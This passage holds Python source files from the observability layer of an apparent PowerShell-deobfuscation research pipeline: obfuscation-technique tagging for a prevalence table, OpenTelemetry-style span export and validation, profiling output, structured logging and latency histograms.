    PipelineStats,
)
from repro.obs.techniques import (
    LAYER_TAGS,
    render_prevalence,
    tag_techniques,
)
from repro.obs.trace import (
    TRACE_SCHEMA_VERSION,
    SpanRecorder,
    TraceContext,
    TraceSpan,
    parse_traceparent,
)
from repro.obs.window import (
    WINDOW_MINUTES,
    RollingWindow,
    merge_window_dicts,
)

__all__ = [
    "DEFAULT_LATENCY_BUCKETS",
    "Histogram",
    "LAYER_TAGS",
    "LOG_SCHEMA_VERSION",
    "LogEvent",
    "LogRing",
    "LogSink",
    "PHASES",
    "PipelineStats",
    "RECOVERY_REASONS",
    "RollingWindow",
    "STATS_SCHEMA_VERSION",
    "Span",
    "SpanRecorder",
    "TRACE_SCHEMA_VERSION",
    "TraceContext",
    "TraceSpan",
    "Tracer",
    "UNWRAP_KINDS",
    "WINDOW_MINUTES",
    "canonical_phase_name",
    "configure_logging",
    "get_logger",
    "iter_events",
    "log_tail",
    "logging_enabled",
    "merge_window_dicts",
    "parse_traceparent",
    "profile_lines",
    "render_prevalence",
    "render_profile",
    "reset_logging",
    "tag_techniques",
]
