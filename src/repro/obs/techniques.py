"""Technique telemetry: which obfuscation techniques did a run recover?

The paper's Table I reports how prevalent each obfuscation technique is
in the wild corpus; until this pass existed, no pipeline surface
recorded *which techniques a sample exhibited* — only aggregate counters
(token rewrites, recovery outcomes, unwrap kinds).  ``tag_techniques``
closes the gap: it runs the per-technique detectors
(:mod:`repro.scoring.detectors`) over the original script *and every
intermediate layer* the multi-layer phase exposed (an EncodedCommand
wrapper hides its payload's concat/base64 markers from a surface scan),
and keys the ``layer_*`` tags to the multilayer phase's
:data:`~repro.obs.stats.UNWRAP_KINDS` counters — so the tags reflect
what the pipeline *recovered*, not just what a static scan guessed.

The result is a ``Dict[str, int]`` with value 1 per tag per run, which
makes corpus aggregation trivial: ``PipelineStats.merge`` sums the
dicts, and the summed counts over N samples *are* the Table I
prevalence column.

Detectors are imported lazily inside the functions: ``repro.obs`` is
imported by ``repro.core.pipeline``, while the detectors import
``repro.core.rename`` — a module-level import here would tie the two
packages into a cycle.
"""

from typing import Dict, Iterable, List, Optional, Sequence, Tuple

# Tags for the invoker layers the multi-layer phase unwrapped, keyed to
# stats.unwrap_kinds (see repro.obs.stats.UNWRAP_KINDS).  These are
# pipeline observations, not detector verdicts: a sample is tagged
# ``layer_iex`` because an IEX layer actually came off, not because the
# text mentioned iex.
LAYER_TAG_PREFIX = "layer_"
LAYER_TAGS = ("layer_iex", "layer_encoded_command", "layer_command")


def technique_vocabulary() -> Tuple[str, ...]:
    """Every tag a run can carry: detector names, then layer tags."""
    from repro.scoring.detectors import DETECTORS

    return tuple(DETECTORS) + LAYER_TAGS


def technique_level(tag: str) -> Optional[int]:
    """The Invoke-Obfuscation level (1-3) of a detector tag; layer tags
    have no level (None)."""
    from repro.scoring.detectors import TECHNIQUE_LEVELS

    return TECHNIQUE_LEVELS.get(tag)


def tag_techniques(
    original: str,
    layers: Sequence[str] = (),
    unwrap_kinds: Optional[Dict[str, int]] = None,
) -> Dict[str, int]:
    """Tag one run: detector hits on the original plus every exposed
    layer, and ``layer_*`` tags for each unwrap kind that fired.

    Returns ``{tag: 1}`` — per-run presence, not occurrence counts, so
    summing over a corpus yields "samples exhibiting technique X"
    (Table I's unit).
    """
    from repro.scoring.detectors import detect_techniques

    found = set(detect_techniques(original))
    for layer in layers:
        if layer != original:
            found |= detect_techniques(layer)
    for kind, count in (unwrap_kinds or {}).items():
        if count > 0:
            found.add(f"{LAYER_TAG_PREFIX}{kind}")
    return {tag: 1 for tag in sorted(found)}


def merge_technique_counts(
    into: Dict[str, int], tags: Dict[str, int]
) -> None:
    """Accumulate one run's tags into a corpus-level prevalence dict."""
    for tag, count in tags.items():
        into[tag] = into.get(tag, 0) + count


def prevalence_rows(
    counts: Dict[str, int], total_samples: int
) -> List[Tuple[str, Optional[int], int, float]]:
    """Table I rows: ``(tag, level, samples, percent)``, most-prevalent
    first (ties broken by name for stable output)."""
    rows: List[Tuple[str, Optional[int], int, float]] = []
    for tag, count in counts.items():
        percent = 100.0 * count / total_samples if total_samples else 0.0
        rows.append((tag, technique_level(tag), count, percent))
    rows.sort(key=lambda row: (-row[2], row[0]))
    return rows


def render_prevalence(
    counts: Dict[str, int], total_samples: int
) -> List[str]:
    """The Table I-style text block batch summaries print."""
    if not counts:
        return []
    lines = ["technique prevalence (Table I):"]
    for tag, level, count, percent in prevalence_rows(
        counts, total_samples
    ):
        level_text = f"L{level}" if level is not None else "--"
        lines.append(
            f"  {tag:<22} {level_text:>3}  {count:>6}  ({percent:5.1f}%)"
        )
    return lines
