"""OpenTelemetry-compatible JSONL span export, validation, rendering.

One exported line per :class:`~repro.obs.trace.TraceSpan`, shaped like
an OTLP/JSON span (camelCase keys, nanosecond timestamps, string ids)
so standard tooling can ingest the file, plus a ``schemaVersion`` field
pinned by :data:`~repro.obs.trace.TRACE_SCHEMA_VERSION` and a golden
test.  The same module owns the two consumers the CLI ships:

- :func:`validate_spans` — the ``repro trace --check`` body: schema
  version, id well-formedness, parent linkage within each trace,
  start ≤ end;
- :func:`render_waterfall` — the per-request waterfall ``repro trace``
  prints (one tree + bar chart per trace, parent order preserved).

:class:`SpanExporter` appends and flushes line by line behind a lock,
so the service's handler threads can share one exporter and a killed
run still leaves a readable prefix (same contract as the batch JSONL
writer).
"""

import json
import os
import threading
from typing import Any, Dict, Iterable, List, Optional, Tuple

from repro.obs.trace import TRACE_SCHEMA_VERSION, TraceSpan


def span_to_otel(span: TraceSpan, service_name: str = "repro") -> dict:
    """The OTLP/JSON-flavoured dict written as one JSONL line."""
    data: Dict[str, Any] = {
        "schemaVersion": TRACE_SCHEMA_VERSION,
        "traceId": span.trace_id,
        "spanId": span.span_id,
        "name": span.name,
        "startTimeUnixNano": int(round(span.start_unix * 1e9)),
        "endTimeUnixNano": (
            int(round(span.end_unix * 1e9))
            if span.end_unix is not None
            else int(round(span.start_unix * 1e9))
        ),
        "status": {
            # OTel status codes: OK / ERROR; aborted maps to ERROR with
            # the repro status preserved as an attribute below.
            "code": "STATUS_CODE_OK" if span.status == "ok"
            else "STATUS_CODE_ERROR",
        },
        "attributes": dict(span.attributes),
        "resource": {"service.name": service_name},
    }
    if span.parent_span_id:
        data["parentSpanId"] = span.parent_span_id
    if span.status != "ok":
        data["attributes"]["repro.status"] = span.status
    if span.process:
        data["resource"]["process.role"] = span.process
    return data


def span_from_otel(data: dict) -> TraceSpan:
    """Rebuild a :class:`TraceSpan` from one exported JSONL line."""
    attributes = dict(data.get("attributes") or {})
    status = attributes.pop("repro.status", None)
    if status is None:
        code = (data.get("status") or {}).get("code", "STATUS_CODE_OK")
        status = "ok" if code == "STATUS_CODE_OK" else "error"
    return TraceSpan(
        name=str(data.get("name", "")),
        trace_id=str(data.get("traceId", "")),
        span_id=str(data.get("spanId", "")),
        parent_span_id=data.get("parentSpanId"),
        start_unix=int(data.get("startTimeUnixNano", 0)) / 1e9,
        end_unix=int(data.get("endTimeUnixNano", 0)) / 1e9,
        status=status,
        process=str(
            (data.get("resource") or {}).get("process.role", "")
        ),
        attributes=attributes,
    )


class SpanExporter:
    """Append spans to a JSONL file, one line per span, flushed.

    Thread-safe: the service's handler threads share one exporter.
    """

    def __init__(self, path: str, service_name: str = "repro"):
        self.path = path
        self.service_name = service_name
        self._lock = threading.Lock()
        directory = os.path.dirname(os.path.abspath(path))
        os.makedirs(directory, exist_ok=True)
        self._handle = open(path, "a", encoding="utf-8")
        self.exported = 0

    def export(self, spans: Iterable[TraceSpan]) -> int:
        """Write *spans*; return how many were written."""
        lines = [
            json.dumps(
                span_to_otel(span, self.service_name), sort_keys=True
            )
            for span in spans
        ]
        if not lines:
            return 0
        with self._lock:
            self._handle.write("\n".join(lines) + "\n")
            self._handle.flush()
            self.exported += len(lines)
        return len(lines)

    def export_dicts(self, payloads: Iterable[dict]) -> int:
        """Export spans that crossed a process boundary in dict form
        (:meth:`TraceSpan.to_dict` payloads, e.g. a worker record's
        ``trace_spans``)."""
        return self.export(
            TraceSpan.from_dict(payload) for payload in payloads
        )

    def close(self) -> None:
        with self._lock:
            self._handle.close()

    def __enter__(self) -> "SpanExporter":
        return self

    def __exit__(self, *exc_info) -> None:
        self.close()


def read_spans(path: str) -> List[TraceSpan]:
    """Load every well-formed span line of an exported JSONL file.

    Malformed lines are skipped (a killed run can truncate the last
    line), matching the batch results reader's tolerance.
    """
    spans: List[TraceSpan] = []
    with open(path, "r", encoding="utf-8") as handle:
        for line in handle:
            line = line.strip()
            if not line:
                continue
            try:
                data = json.loads(line)
            except ValueError:
                continue
            if isinstance(data, dict) and "traceId" in data:
                spans.append(span_from_otel(data))
    return spans


def read_raw_lines(path: str) -> List[dict]:
    """The raw exported dicts (for schema validation)."""
    lines: List[dict] = []
    with open(path, "r", encoding="utf-8") as handle:
        for line in handle:
            line = line.strip()
            if not line:
                continue
            try:
                data = json.loads(line)
            except ValueError:
                continue
            if isinstance(data, dict):
                lines.append(data)
    return lines


def _is_hex(value: str, digits: int) -> bool:
    if len(value) != digits:
        return False
    try:
        int(value, 16)
    except ValueError:
        return False
    return True


def validate_spans(raw_lines: List[dict]) -> List[str]:
    """Validate exported span lines; return a list of problems.

    Checks are the ``repro trace --check`` contract: every line carries
    the current ``schemaVersion``, ids are well-formed hex, timestamps
    are ordered, and every ``parentSpanId`` resolves to a span of the
    same trace — except the trace's earliest span, whose parent may
    legitimately live in the *caller's* process (a request that joined
    an external trace via the W3C ``traceparent`` header exports its
    root with a remote parent the file cannot contain).
    """
    problems: List[str] = []
    by_trace: Dict[str, set] = {}
    earliest: Dict[str, Tuple[int, int]] = {}  # trace → (start, line idx)
    for index, data in enumerate(raw_lines):
        where = f"line {index + 1}"
        version = data.get("schemaVersion")
        if version != TRACE_SCHEMA_VERSION:
            problems.append(
                f"{where}: schemaVersion {version!r} != "
                f"{TRACE_SCHEMA_VERSION}"
            )
        trace_id = str(data.get("traceId", ""))
        span_id = str(data.get("spanId", ""))
        if not _is_hex(trace_id, 32):
            problems.append(f"{where}: malformed traceId {trace_id!r}")
        if not _is_hex(span_id, 16):
            problems.append(f"{where}: malformed spanId {span_id!r}")
        if not data.get("name"):
            problems.append(f"{where}: span has no name")
        start = data.get("startTimeUnixNano", 0)
        end = data.get("endTimeUnixNano", 0)
        if end < start:
            problems.append(f"{where}: endTimeUnixNano precedes start")
        by_trace.setdefault(trace_id, set()).add(span_id)
        if trace_id not in earliest or start < earliest[trace_id][0]:
            earliest[trace_id] = (start, index)
    for index, data in enumerate(raw_lines):
        parent = data.get("parentSpanId")
        if not parent:
            continue
        trace_id = str(data.get("traceId", ""))
        if str(data.get("spanId", "")) == parent:
            problems.append(f"line {index + 1}: span is its own parent")
            continue
        if parent in by_trace.get(trace_id, set()):
            continue
        if earliest.get(trace_id, (0, -1))[1] == index:
            continue  # remote-parented trace root (traceparent caller)
        problems.append(
            f"line {index + 1}: parentSpanId {parent!r} not found "
            f"in trace {trace_id!r}"
        )
    return problems


# -- waterfall rendering ------------------------------------------------------

_BAR_WIDTH = 32


def _children_index(
    spans: List[TraceSpan],
) -> Dict[Optional[str], List[TraceSpan]]:
    children: Dict[Optional[str], List[TraceSpan]] = {}
    span_ids = {span.span_id for span in spans}
    for span in spans:
        parent = span.parent_span_id
        if parent is not None and parent not in span_ids:
            parent = None  # orphan: render at top level, don't drop it
        children.setdefault(parent, []).append(span)
    for siblings in children.values():
        siblings.sort(key=lambda s: (s.start_unix, s.name))
    return children


def _format_ms(seconds: float) -> str:
    return f"{seconds * 1000:.1f}ms"


def render_waterfall(spans: List[TraceSpan]) -> str:
    """One waterfall per trace: a parent-ordered tree with time bars.

    Bars are positioned on the trace's own [first start, last end]
    window, so a glance shows both duration and *when* each span ran —
    the queueing gap between request admission and worker execution is
    visible as leading whitespace.
    """
    by_trace: Dict[str, List[TraceSpan]] = {}
    order: List[str] = []
    for span in spans:
        if span.trace_id not in by_trace:
            order.append(span.trace_id)
        by_trace.setdefault(span.trace_id, []).append(span)

    lines: List[str] = []
    for trace_id in order:
        trace_spans = by_trace[trace_id]
        t0 = min(span.start_unix for span in trace_spans)
        t1 = max(
            span.end_unix if span.end_unix is not None else span.start_unix
            for span in trace_spans
        )
        window = max(t1 - t0, 1e-9)
        lines.append(
            f"trace {trace_id} — {len(trace_spans)} span(s), "
            f"{_format_ms(window)}"
        )
        children = _children_index(trace_spans)

        def emit(span: TraceSpan, depth: int) -> None:
            label = ("  " * depth) + span.name
            start_cell = int(
                (span.start_unix - t0) / window * _BAR_WIDTH
            )
            end_point = (
                span.end_unix if span.end_unix is not None
                else span.start_unix
            )
            end_cell = int(round((end_point - t0) / window * _BAR_WIDTH))
            end_cell = max(end_cell, start_cell + 1)
            bar = (
                " " * start_cell
                + "#" * (end_cell - start_cell)
                + " " * (_BAR_WIDTH - end_cell)
            )
            flag = "" if span.status == "ok" else f"  [{span.status}]"
            suffix = f" ({span.process})" if span.process else ""
            lines.append(
                f"  {label:<28} |{bar}| {_format_ms(span.seconds):>9}"
                f"{suffix}{flag}"
            )
            for child in children.get(span.span_id, ()):
                emit(child, depth + 1)

        for root in children.get(None, ()):
            emit(root, 0)
        lines.append("")
    return "\n".join(lines).rstrip("\n") + ("\n" if lines else "")


def summarize_traces(
    spans: List[TraceSpan],
) -> List[Tuple[str, int, float]]:
    """Per-trace ``(trace_id, span_count, wall_seconds)`` rows."""
    rows: List[Tuple[str, int, float]] = []
    seen: List[str] = []
    by_trace: Dict[str, List[TraceSpan]] = {}
    for span in spans:
        if span.trace_id not in by_trace:
            seen.append(span.trace_id)
        by_trace.setdefault(span.trace_id, []).append(span)
    for trace_id in seen:
        group = by_trace[trace_id]
        t0 = min(s.start_unix for s in group)
        t1 = max(
            s.end_unix if s.end_unix is not None else s.start_unix
            for s in group
        )
        rows.append((trace_id, len(group), max(0.0, t1 - t0)))
    return rows
