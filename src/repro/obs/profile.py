"""Human-readable rendering of a run's telemetry.

``render_profile`` turns a :class:`~repro.obs.stats.PipelineStats` (plus
the run metadata on a ``DeobfuscationResult``) into the text block shown
by ``repro profile`` and ``repro deobfuscate --stats``; the same lines
feed the triage report's telemetry section.
"""

from typing import List, Optional

from repro.obs.spans import PHASES
from repro.obs.stats import PipelineStats


def _counter_line(label: str, counts: dict) -> str:
    rendered = "  ".join(f"{name}={value}" for name, value in counts.items())
    return f"{label}: {rendered}"


def profile_lines(
    stats: PipelineStats, elapsed_seconds: Optional[float] = None
) -> List[str]:
    """The counter/timing lines shared by every profile surface."""
    lines: List[str] = []
    if stats.phase_seconds:
        ordered = [p for p in PHASES if p in stats.phase_seconds]
        ordered += [
            p for p in stats.phase_seconds if p not in ordered
        ]
        accounted = sum(stats.phase_seconds.values())
        parts = "  ".join(
            f"{phase} {stats.phase_seconds[phase]:.4f}s" for phase in ordered
        )
        lines.append(f"phases    : {parts}")
        if elapsed_seconds:
            lines.append(
                f"            ({accounted:.4f}s of {elapsed_seconds:.4f}s "
                "accounted to phases)"
            )
    lines.append(_counter_line("recovery  ", stats.recovery_outcomes))
    lines.append(
        f"            replacements={stats.pieces_recovered}  "
        f"cache_hits={stats.recovery_cache_hits}  "
        f"evaluator_steps={stats.evaluator_steps}"
    )
    lines.append(
        "hot paths : "
        f"memo_hits={stats.subtree_memo_hits}  "
        f"memo_misses={stats.subtree_memo_misses}  "
        f"intern_hits={stats.intern_hits}  "
        f"intern_misses={stats.intern_misses}"
    )
    lines.append(
        "tracing   : "
        f"traced={stats.variables_traced}  "
        f"substituted={stats.variables_substituted}  "
        f"hits={stats.trace_hits}  misses={stats.trace_misses}"
    )
    lines.append(_counter_line("unwraps   ", stats.unwrap_kinds))
    lines.append(f"tokens    : {stats.tokens_rewritten} rewritten")
    if stats.techniques:
        tags = "  ".join(sorted(stats.techniques))
        lines.append(f"techniques: {tags}")
    if stats.policy or stats.policy_denials or stats.budget_spent:
        parts = [stats.policy or "?"]
        if stats.policy_denials:
            parts.append(
                "denials "
                + "  ".join(
                    f"{capability}={count}"
                    for capability, count in sorted(
                        stats.policy_denials.items()
                    )
                )
            )
        if stats.budget_spent:
            parts.append(
                "budget "
                + "  ".join(
                    f"{name}={value}"
                    for name, value in sorted(stats.budget_spent.items())
                )
            )
        lines.append("policy    : " + "  |  ".join(parts))
    return lines


def render_profile(result) -> str:
    """Full profile for one :class:`DeobfuscationResult`."""
    stats: PipelineStats = result.stats
    lines = ["=== pipeline profile ==="]
    status = "converged"
    if not result.valid_input:
        status = "invalid input"
    elif result.timed_out:
        status = "TIMED OUT (partial)"
    lines.append(
        f"run       : {result.elapsed_seconds:.4f}s, "
        f"{result.iterations} iteration(s), "
        f"{result.layers_unwrapped} layer(s) unwrapped — {status}"
    )
    lines.extend(profile_lines(stats, result.elapsed_seconds))
    if stats.spans:
        lines.append("spans     :")
        for span in stats.spans:
            tag = (
                f"iter {span.iteration}" if span.iteration is not None
                else "post"
            )
            lines.append(
                f"  {span.name:<10} {span.seconds:>9.4f}s  ({tag})"
            )
    return "\n".join(lines)
