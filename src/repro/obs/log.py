"""Structured, trace-correlated event logging.

Counters and histograms (PR 3/8) say *how often* and *how slow*; spans
(PR 2/4) say *where the time went*.  What an operator still cannot do
is grep: "show me every policy denial in the last minute", "what did
the pool do right before that 500".  This module is the missing event
stream — dependency-free, like everything in :mod:`repro.obs`:

- :class:`LogEvent` — one typed event: wall-clock ``ts``, ``level``,
  ``logger`` (a dotted component name such as ``service.admission``),
  human ``message``, machine ``fields``, and the ``trace_id`` /
  ``span_id`` of whatever :class:`~repro.obs.trace.SpanRecorder` was
  active when the event was emitted — so a slow request's trace links
  to the exact events it produced.
- :class:`LogRing` — a bounded per-process ring buffer; ``/statusz``
  serves its tail so operators see recent events without any file.
- :class:`LogSink` — a JSONL file sink with size-based rotation
  (``path`` → ``path.1``); ``repro logs`` tails and filters it.

Logging is **disabled by default** and the disabled path is two
attribute reads and a comparison — the pipeline p50 budget in
``benchmarks/trajectory.py`` pins the overhead at ≤ 5%.  Configure it
with :func:`configure_logging` (the service does this at start; the
CLI via ``--log-file`` / ``--log-level``).

Events serialize as single JSON lines with a ``schema_version`` field,
versioned exactly like :class:`~repro.obs.stats.PipelineStats` — the
golden file under ``tests/obs/golden/`` pins the shape.
"""

import json
import os
import threading
import time
from collections import deque
from dataclasses import dataclass, field
from typing import Any, Callable, Deque, Dict, Iterator, List, Optional

from repro.obs.trace import active_recorder

# Bump whenever the serialized LogEvent shape changes (tests/obs/golden
# pins it; ``repro logs`` renders any version it understands).
LOG_SCHEMA_VERSION = 1

# Severity order, syslog-flavored.  No "critical": a process that sick
# should crash and let the pool/fleet layer narrate the restart.
LEVELS: Dict[str, int] = {
    "debug": 10,
    "info": 20,
    "warning": 30,
    "error": 40,
}
LEVEL_NAMES = {number: name for name, number in LEVELS.items()}

DEFAULT_RING_SIZE = 512
DEFAULT_ROTATE_BYTES = 16 * 1024 * 1024


@dataclass
class LogEvent:
    """One structured event, serializable as a single JSON line."""

    ts: float
    level: str
    logger: str
    message: str
    fields: Dict[str, Any] = field(default_factory=dict)
    trace_id: Optional[str] = None
    span_id: Optional[str] = None

    def to_dict(self) -> Dict[str, Any]:
        data: Dict[str, Any] = {
            "schema_version": LOG_SCHEMA_VERSION,
            "ts": round(self.ts, 6),
            "level": self.level,
            "logger": self.logger,
            "message": self.message,
        }
        if self.fields:
            data["fields"] = dict(self.fields)
        if self.trace_id:
            data["trace_id"] = self.trace_id
        if self.span_id:
            data["span_id"] = self.span_id
        return data

    @classmethod
    def from_dict(cls, data: Dict[str, Any]) -> "LogEvent":
        return cls(
            ts=float(data.get("ts", 0.0)),
            level=str(data.get("level", "info")),
            logger=str(data.get("logger", "")),
            message=str(data.get("message", "")),
            fields=dict(data.get("fields") or {}),
            trace_id=data.get("trace_id"),
            span_id=data.get("span_id"),
        )


class LogRing:
    """A bounded, thread-safe ring of recent events.

    ``/statusz`` serves ``tail()`` so an operator sees what just
    happened without log files; the bound keeps a chatty debug run
    from growing memory.
    """

    def __init__(self, capacity: int = DEFAULT_RING_SIZE):
        self.capacity = max(1, int(capacity))
        self._events: Deque[LogEvent] = deque(maxlen=self.capacity)
        self._lock = threading.Lock()
        self.appended = 0

    def append(self, event: LogEvent) -> None:
        with self._lock:
            self._events.append(event)
            self.appended += 1

    def tail(
        self,
        limit: int = 50,
        min_level: Optional[str] = None,
        logger: Optional[str] = None,
        trace_id: Optional[str] = None,
    ) -> List[LogEvent]:
        """The newest matching events, oldest first."""
        threshold = LEVELS.get(min_level or "", 0)
        with self._lock:
            events = list(self._events)
        matched: List[LogEvent] = []
        for event in reversed(events):
            if LEVELS.get(event.level, 0) < threshold:
                continue
            if logger and not event.logger.startswith(logger):
                continue
            if trace_id and event.trace_id != trace_id:
                continue
            matched.append(event)
            if len(matched) >= max(1, int(limit)):
                break
        matched.reverse()
        return matched


class LogSink:
    """Append-only JSONL file sink with size-based rotation.

    One ``write()`` is one ``O_APPEND`` line write under a lock, so
    forked batch workers inheriting the handle interleave whole lines
    rather than bytes.  When the file passes ``rotate_bytes`` it is
    renamed to ``<path>.1`` (replacing any previous rotation) and a
    fresh file is started — bounded disk, no external logrotate.
    """

    def __init__(
        self, path: str, rotate_bytes: int = DEFAULT_ROTATE_BYTES
    ):
        self.path = path
        self.rotate_bytes = max(4096, int(rotate_bytes))
        self._lock = threading.Lock()
        directory = os.path.dirname(os.path.abspath(path))
        os.makedirs(directory, exist_ok=True)
        self._file = open(path, "a", encoding="utf-8")
        self.written = 0
        self.rotations = 0

    def write(self, event: LogEvent) -> None:
        line = json.dumps(event.to_dict(), sort_keys=True)
        with self._lock:
            if self._file.closed:  # pragma: no cover - defensive
                return
            self._file.write(line + "\n")
            self._file.flush()
            self.written += 1
            try:
                size = self._file.tell()
            except (OSError, ValueError):  # pragma: no cover
                return
            if size >= self.rotate_bytes:
                self._rotate()

    def _rotate(self) -> None:
        self._file.close()
        try:
            os.replace(self.path, self.path + ".1")
        except OSError:  # pragma: no cover - defensive
            pass
        self._file = open(self.path, "a", encoding="utf-8")
        self.rotations += 1

    def close(self) -> None:
        with self._lock:
            if not self._file.closed:
                self._file.close()


def iter_events(path: str) -> Iterator[LogEvent]:
    """Parse a JSONL log file, skipping lines that do not parse.

    Tolerant for the same reason the cache journal loader is: a
    SIGKILLed process can leave a torn final line, and one bad line
    must not make the whole file unreadable to ``repro logs``.
    """
    with open(path, "r", encoding="utf-8") as handle:
        for line in handle:
            line = line.strip()
            if not line:
                continue
            try:
                data = json.loads(line)
            except ValueError:
                continue
            if not isinstance(data, dict):
                continue
            yield LogEvent.from_dict(data)


class _LogState:
    """Process-global logging configuration (one slot, like the active
    recorder registry in :mod:`repro.obs.trace`)."""

    __slots__ = ("enabled", "threshold", "ring", "sink", "clock")

    def __init__(self) -> None:
        self.enabled = False
        self.threshold = LEVELS["info"]
        self.ring: Optional[LogRing] = None
        self.sink: Optional[LogSink] = None
        self.clock: Callable[[], float] = time.time


_STATE = _LogState()


def configure_logging(
    level: str = "info",
    ring_size: int = DEFAULT_RING_SIZE,
    path: Optional[str] = None,
    rotate_bytes: int = DEFAULT_ROTATE_BYTES,
    clock: Callable[[], float] = time.time,
) -> None:
    """Turn the event log on: ring buffer always, file sink if *path*.

    ``level`` is the threshold below which events are dropped at the
    emit site.  ``clock`` is injectable so tests (and the golden JSONL
    file) are deterministic.
    """
    if level not in LEVELS:
        raise ValueError(
            f"unknown log level {level!r}; choose from {sorted(LEVELS)}"
        )
    if _STATE.sink is not None:
        _STATE.sink.close()
    _STATE.threshold = LEVELS[level]
    _STATE.ring = LogRing(ring_size)
    _STATE.sink = LogSink(path, rotate_bytes) if path else None
    _STATE.clock = clock
    _STATE.enabled = True


def reset_logging() -> None:
    """Back to the default disabled state (tests; also end of serve)."""
    if _STATE.sink is not None:
        _STATE.sink.close()
    _STATE.enabled = False
    _STATE.threshold = LEVELS["info"]
    _STATE.ring = None
    _STATE.sink = None
    _STATE.clock = time.time


def logging_enabled() -> bool:
    return _STATE.enabled


def log_ring() -> Optional[LogRing]:
    """The active ring buffer, None when logging is disabled."""
    return _STATE.ring


def log_tail(
    limit: int = 50,
    min_level: Optional[str] = None,
    logger: Optional[str] = None,
    trace_id: Optional[str] = None,
) -> List[Dict[str, Any]]:
    """Serialized tail of the ring buffer ([] when disabled) — the
    shape ``/statusz`` embeds."""
    ring = _STATE.ring
    if ring is None:
        return []
    return [
        event.to_dict()
        for event in ring.tail(limit, min_level, logger, trace_id)
    ]


class Logger:
    """A named emitter.  Cheap to construct; hold one per module.

    The disabled fast path — ``_STATE.enabled`` false or the level
    below threshold — costs two attribute reads and a comparison, which
    is what keeps always-present call sites in the pipeline inside the
    ≤ 5% overhead pin.
    """

    __slots__ = ("name",)

    def __init__(self, name: str):
        self.name = name

    def debug(self, message: str, **fields: Any) -> None:
        self._emit(10, "debug", message, fields)

    def info(self, message: str, **fields: Any) -> None:
        self._emit(20, "info", message, fields)

    def warning(self, message: str, **fields: Any) -> None:
        self._emit(30, "warning", message, fields)

    def error(self, message: str, **fields: Any) -> None:
        self._emit(40, "error", message, fields)

    def _emit(
        self,
        level_no: int,
        level: str,
        message: str,
        fields: Dict[str, Any],
    ) -> None:
        state = _STATE
        if not state.enabled or level_no < state.threshold:
            return
        # An explicit trace_id/span_id field wins (emit sites that hold
        # a recorder without it being thread-active, like the service's
        # request accounting); otherwise the active recorder is read.
        trace_id = fields.pop("trace_id", None)
        span_id = fields.pop("span_id", None)
        if trace_id is None:
            recorder = active_recorder()
            if recorder is not None:
                context = recorder.current_context()
                trace_id = context.trace_id
                span_id = context.span_id
        event = LogEvent(
            ts=state.clock(),
            level=level,
            logger=self.name,
            message=message,
            fields={k: v for k, v in fields.items() if v is not None},
            trace_id=trace_id,
            span_id=span_id,
        )
        ring = state.ring
        if ring is not None:
            ring.append(event)
        sink = state.sink
        if sink is not None:
            sink.write(event)


def get_logger(name: str) -> Logger:
    return Logger(name)
