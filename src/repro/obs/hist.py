"""Latency histograms with slow-sample exemplars.

PR 3's ``/metrics`` exported latency as point gauges (one p50/p95 pair
computed at scrape time), which cannot be aggregated across restarts or
replicas and hides the tail shape Fig 6 cares about.  This module is
the upgrade: a cumulative-bucket :class:`Histogram` matching Prometheus
semantics (``_bucket{le=...}`` / ``_sum`` / ``_count``), plus one
*exemplar* per bucket — the trace_id of the worst observation that
landed there — so a scrape of the slow bucket points straight at a
renderable trace (``repro trace``).

No third-party client library: the service's ``/metrics`` renderer
(:mod:`repro.service.metrics`) hand-rolls the text format, and this
class only keeps the counts it needs.
"""

from typing import Any, Dict, List, Optional, Sequence, Tuple

# Default seconds buckets for pipeline/request latency.  Chosen to
# bracket the corpus p50 (~5-50ms for generated samples) and the
# heavy-recovery tail; +Inf is implicit.
DEFAULT_LATENCY_BUCKETS = (
    0.005, 0.01, 0.025, 0.05, 0.1, 0.25, 0.5, 1.0, 2.5, 5.0, 10.0,
)


class Histogram:
    """A Prometheus-style cumulative histogram with bucket exemplars.

    ``observe(value, trace_id)`` files *value* into its bucket and, when
    it is the largest value that bucket has seen, remembers
    ``(trace_id, value)`` as the bucket's exemplar.  Exemplars make the
    tail actionable: the scrape shows *which request* was slow, not just
    that one was.
    """

    def __init__(
        self, buckets: Sequence[float] = DEFAULT_LATENCY_BUCKETS
    ):
        self.bounds: Tuple[float, ...] = tuple(sorted(buckets))
        # counts[i] is the number of observations <= bounds[i] is NOT
        # what we store — buckets here are per-bin; cumulative sums are
        # computed at render time.  The final bin is (last bound, +Inf].
        self.counts: List[int] = [0] * (len(self.bounds) + 1)
        self.sum = 0.0
        self.count = 0
        # Per-bin worst observation: (trace_id, value) or None.
        self.exemplars: List[Optional[Tuple[str, float]]] = [None] * (
            len(self.bounds) + 1
        )

    def _bin(self, value: float) -> int:
        for index, bound in enumerate(self.bounds):
            if value <= bound:
                return index
        return len(self.bounds)

    def observe(self, value: float, trace_id: str = "") -> None:
        index = self._bin(value)
        self.counts[index] += 1
        self.sum += value
        self.count += 1
        if trace_id:
            worst = self.exemplars[index]
            if worst is None or value > worst[1]:
                self.exemplars[index] = (trace_id, value)

    def cumulative(self) -> List[Tuple[float, int]]:
        """``(le_bound, cumulative_count)`` rows, ending with +Inf."""
        rows: List[Tuple[float, int]] = []
        running = 0
        for bound, count in zip(self.bounds, self.counts):
            running += count
            rows.append((bound, running))
        rows.append((float("inf"), running + self.counts[-1]))
        return rows

    def nonzero_buckets(self) -> int:
        """How many bins hold at least one observation (tail shape
        check: the service load test asserts ≥ 2)."""
        return sum(1 for count in self.counts if count)

    def quantile(self, q: float) -> float:
        """Estimate the *q*-quantile (0 < q ≤ 1) from the buckets.

        Prometheus ``histogram_quantile`` semantics: find the bin the
        rank falls in and interpolate linearly inside it.  The overflow
        bin (> last bound) has no upper edge, so it reports the last
        bound — an admitted underestimate, same as Prometheus.
        """
        if self.count == 0:
            return 0.0
        rank = q * self.count
        running = 0
        for index, bound in enumerate(self.bounds):
            previous = running
            running += self.counts[index]
            if running >= rank:
                lower = self.bounds[index - 1] if index else 0.0
                if self.counts[index] == 0:  # pragma: no cover
                    return bound
                fraction = (rank - previous) / self.counts[index]
                return lower + (bound - lower) * fraction
        return self.bounds[-1]

    def worst_exemplar(self) -> Optional[Tuple[str, float]]:
        """The ``(trace_id, value)`` of the slowest observation seen
        with a trace id — what ``/statusz`` links operators to."""
        worst: Optional[Tuple[str, float]] = None
        for exemplar in self.exemplars:
            if exemplar is not None and (
                worst is None or exemplar[1] > worst[1]
            ):
                worst = exemplar
        return worst

    def merge(self, other: "Histogram") -> None:
        """Fold *other* into this histogram (bounds must match)."""
        if other.bounds != self.bounds:
